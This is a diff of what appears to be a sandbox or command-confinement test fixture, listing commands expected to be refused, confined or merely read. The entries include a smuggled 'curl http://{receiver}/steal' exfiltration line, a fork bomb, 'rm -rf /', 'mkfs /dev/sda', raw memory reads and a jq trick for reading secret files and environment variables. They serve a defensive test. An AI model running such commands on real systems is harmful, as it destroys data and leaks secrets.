@@ -93,12 +93,19 @@ COMMANDS: dict[str, dict[Expected, tuple[str, ...]]] = {
         CONFINED: ("perl -MSocket -e 1", "true; curl http://{receiver}/steal"),
     },
     "destruction": {
-        "refused": (":(){{ :|:& }};:", "rm -rf /", "kill -9 1", "dd if=/dev/mem of=pwned", "shutdown now", "mkfs /dev/sda"),
+        "refused": (
+            ":(){{ :|:& }};:",
+            "rm -rf /",
+            "kill -9 1",
+            "dd if=/dev/mem of=pwned",
+            "shutdown now",
+            "mkfs /dev/sda",
+        ),
     },
     "what-only-reads": {
         "read": (
             "diff folder other",
-            "jq -n 'import \"secret\" as $x {{\"search\":\"{outside}\"}}; $x'",
+            'jq -n \'import "secret" as $x {{"search":"{outside}"}}; $x\'',
             "jq -n env",
             "grep -r canary folder",
             "find . -ls",
